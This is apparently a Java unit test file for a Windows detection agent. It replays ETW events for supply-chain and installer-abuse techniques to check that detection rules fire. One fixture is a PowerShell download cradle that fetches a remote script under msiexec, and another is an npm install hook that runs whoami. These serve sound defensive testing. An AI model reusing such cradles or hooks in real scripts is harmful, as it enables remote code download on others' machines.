package dev.hookline.windows.seed;

import static org.junit.jupiter.api.Assertions.*;

import dev.hookline.alert.Alert;
import dev.hookline.collector.HostIdentity;
import dev.hookline.process.Account;
import dev.hookline.process.ProcessTable;
import dev.hookline.rules.Detector;
import dev.hookline.rules.RuleLoader;
import dev.hookline.rules.Tuning;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import dev.hookline.windows.etw.EtwRecord;
import dev.hookline.windows.normalize.DevicePaths;
import dev.hookline.windows.normalize.EtwNormalizer;
import dev.hookline.windows.normalize.SidResolver;
import dev.hookline.windows.testing.Capture;
import dev.hookline.windows.testing.Etw;
import dev.hookline.windows.testing.Records;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The Windows test procedures of the seed detections (T1195.001, T1546.016), replayed as the ETW event sequences a
 * Windows host would produce (both process halves, Kernel-Network, Kernel-File, NT device paths), through the
 * decoders, the normalizer, and the agent's Detector with the built-in rules.
 */
class SeedProceduresTest {
    static final long T0 = System.currentTimeMillis() * 1_000_000L - 60_000_000_000L;
    static final long MS = 1_000_000L;
    static final String VOL = "\\Device\\HarddiskVolume3";
    static final String SYS32 = VOL + "\\Windows\\System32\\";
    static final String DEV1 = "S-1-5-21-1004336348-1177238915-682003330-1001";
    static final String SYSTEM = "S-1-5-18";

    Capture sink;
    EtwNormalizer normalizer;
    List<Alert> alerts;
    Detector detector;
    final EtwRecord rec = new EtwRecord();
    long t;

    @BeforeEach
    void setUp() throws Exception {
        sink = new Capture();
        SidResolver sids = sid -> DEV1.equals(sid) ? new Account("dev1", "CORP", sid)
                : SYSTEM.equals(sid) ? new Account("SYSTEM", "NT AUTHORITY", sid) : SidResolver.SID_ONLY.account(sid);
        normalizer = new EtwNormalizer(sink, new ProcessTable(60_000 * MS), new HostIdentity("win-07", "dev-id"), sids,
                new DevicePaths(Map.of(VOL, "C:")), true, EtwNormalizer.DEFAULT_JOIN_WINDOW_NANOS, 31337);
        alerts = new ArrayList<>();
        detector = new Detector(new RuleLoader().loadBuiltin(), Tuning.NONE, alerts::add);
        t = T0;
    }

    void feed(Records.Built b) {
        normalizer.accept(rec.read(b.pointer()));
    }

    /** Both halves of a process start, as one session delivers them. */
    void start(long creator, long pid, String ntImage, String sid, String commandLine) {
        t += MS;
        feed(Etw.processStart(t, creator, pid, creator, ntImage));
        String shortName = ntImage.substring(ntImage.lastIndexOf('\\') + 1);
        feed(Etw.classic(1, t, pid, creator, sid, shortName.length() > 15 ? shortName.substring(0, 15) : shortName,
                commandLine));
    }

    List<Event> detect() {
        normalizer.flush();
        for (Event e : sink.events) {
            detector.accept(e, t + 60_000 * MS);
        }
        return sink.events;
    }

    String arms() {
        return alerts.stream().map(Alert::arm).sorted().collect(Collectors.joining(","));
    }

    Event row(String fileName) {
        return sink.events.stream().filter(e -> fileName.equals(e.getString(Columns.FILE_NAME))).findFirst()
                .orElseThrow(() -> new AssertionError("no row for " + fileName + " in " + sink.events));
    }

    @Test
    void npmInstallHookRunsCmdWhoami() {
        // npm.cmd is a batch file: ETW reports the images, cmd.exe (running npm.cmd) → node.exe (npm-cli.js) →
        // cmd.exe /d /s /c (the lifecycle script) → whoami.exe. The hook's initiator is node.exe, which the
        // InstallTools list names; a row with InitiatingProcessFileName "npm.cmd" cannot come from ETW.
        start(900, 4000, SYS32 + "cmd.exe", DEV1, "C:\\WINDOWS\\system32\\cmd.exe /c \"\"C:\\Program Files\\nodejs\\npm.cmd\" install ./argus-test-pkg\"");
        start(4000, 4400, VOL + "\\Program Files\\nodejs\\node.exe", DEV1,
                "\"C:\\Program Files\\nodejs\\node.exe\" \"C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js\" install ./argus-test-pkg");
        start(4400, 4412, SYS32 + "cmd.exe", DEV1, "C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"whoami > %TEMP%\\argus-npm-test.txt\"");
        start(4412, 4420, SYS32 + "whoami.exe", DEV1, "whoami");
        feed(Etw.fileCreate(30, t += MS, 4412, 0xA1, 0x05000060,
                VOL + "\\Users\\dev1\\AppData\\Local\\Temp\\argus-npm-test.txt"));
        detect();
        assertEquals("PackageManagerSpawnedSuspiciousChild", arms());
        Alert a = alerts.get(0);
        assertEquals("cmd.exe", a.event().getString(Columns.FILE_NAME));
        assertEquals(4412, a.event().getLong(Columns.PROCESS_ID));
        assertEquals("node.exe", a.event().getString(Columns.INITIATING_PROCESS_FILE_NAME));
        assertEquals("dev1", a.event().getString(Columns.ACCOUNT_NAME));
        assertTrue(a.event().getString(Columns.PROCESS_COMMAND_LINE).contains("whoami"));
        Event file = row("argus-npm-test.txt");
        assertEquals("FileCreated", file.getString(Columns.ACTION_TYPE));
        assertEquals("C:\\Users\\dev1\\AppData\\Local\\Temp\\argus-npm-test.txt", file.getString(Columns.FOLDER_PATH));
        assertEquals("cmd.exe", file.getString(Columns.INITIATING_PROCESS_FILE_NAME));
    }

    @Test
    void cmdCreatingGithubWorkflowUnderBackslashPathDoesNotFireThePipelineArm() {
        start(900, 778, SYS32 + "cmd.exe", DEV1, "cmd.exe /c \"echo x > .github\\workflows\\ci.yml\"");
        feed(Etw.fileCreate(30, t += MS, 778, 0xB1, 0x05000060, VOL + "\\src\\app\\.github\\workflows\\ci.yml"));
        detect();
        Event file = row("ci.yml");
        assertEquals(Table.DeviceFileEvents, file.table());
        assertEquals("FileCreated", file.getString(Columns.ACTION_TYPE));
        assertEquals("C:\\src\\app\\.github\\workflows\\ci.yml", file.getString(Columns.FOLDER_PATH));
        assertEquals("cmd.exe", file.getString(Columns.INITIATING_PROCESS_FILE_NAME));
        // Kusto's has_any treats ".github/workflows" as the phrase github, workflows joined by '/', which a
        // backslash path does not contain: the published arm misses Windows paths, and so does Hookline.
        assertEquals("", arms());
    }

    @Test
    void pipelineArmDoesFireOnAWindowsPathByTermWithoutSlash() {
        start(900, 778, SYS32 + "cmd.exe", DEV1, "cmd.exe /c \"echo x > Jenkinsfile\"");
        feed(Etw.fileCreate(30, t += MS, 778, 0xB2, 0x05000060, VOL + "\\src\\app\\Jenkinsfile"));
        detect();
        assertEquals("CICDPipelineFileModified", arms());
    }

    @Test
    void msiexecCustomActionRunsPowershell() {
        start(700, 6000, SYS32 + "msiexec.exe", SYSTEM, "C:\\WINDOWS\\system32\\msiexec.exe /V");
        start(6000, 6010, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", SYSTEM,
                "powershell.exe -NoProfile -Command Invoke-WebRequest http://203.0.113.5/a.ps1 -OutFile a.ps1");
        detect();
        // The seed's arm, and the Hookline pack's download-cradle arm below an installer.
        assertEquals("INSTALLER_CHILD_PROCESS,InstallerScriptDownloadCradle", arms());
        Alert a = alerts.get(0);
        assertEquals("powershell.exe", a.event().getString(Columns.FILE_NAME));
        assertEquals("msiexec.exe", a.event().getString(Columns.INITIATING_PROCESS_FILE_NAME));
        assertEquals("SYSTEM", a.event().getString(Columns.ACCOUNT_NAME));
        int suspicious = a.columns().indexOf("SuspiciousCommand");
        assertTrue(suspicious >= 0, a.columns().toString());
        assertEquals(Boolean.TRUE, a.row()[suspicious]);
    }

    @Test
    void msiexecSilentInstallCustomActionRunsCmd() {
        start(3000, 6002, SYS32 + "msiexec.exe", DEV1, "msiexec /i test.msi /qn");
        start(6002, 6020, SYS32 + "cmd.exe", SYSTEM, "cmd.exe /c \"echo done > C:\\Temp\\custom_action_test.txt\"");
        feed(Etw.fileCreate(30, t += MS, 6020, 0xC1, 0x05000060, VOL + "\\Temp\\custom_action_test.txt"));
        detect();
        assertEquals("INSTALLER_CHILD_PROCESS", arms());
        assertEquals("cmd.exe", alerts.get(0).event().getString(Columns.FILE_NAME));
        assertEquals("custom_action_test.txt", row("custom_action_test.txt").getString(Columns.FILE_NAME));
    }

    @Test
    void msiexecConnectsToPublicAddressButNotToPrivateOne() {
        start(3000, 6003, SYS32 + "msiexec.exe", SYSTEM, "msiexec /i https://cdn.vendor.example/app.msi /qn");
        feed(Etw.tcp(12, t += MS, 6003, new byte[] {93, (byte) 184, (byte) 215, 14}, 443,
                new byte[] {10, 0, 0, 5}, 50001));
        feed(Etw.tcp(12, t += MS, 6003, new byte[] {(byte) 192, (byte) 168, 1, 10}, 443,
                new byte[] {10, 0, 0, 5}, 50002));
        detect();
        assertEquals("INSTALLER_NETWORK_ACTIVITY", arms());
        Event e = alerts.get(0).event();
        assertEquals("93.184.215.14", e.getString(Columns.REMOTE_IP));
        assertEquals("Public", e.getString(Columns.REMOTE_IP_TYPE));
        assertEquals(443, e.getLong(Columns.REMOTE_PORT));
        assertEquals("msiexec.exe", e.getString(Columns.INITIATING_PROCESS_FILE_NAME));
    }
}
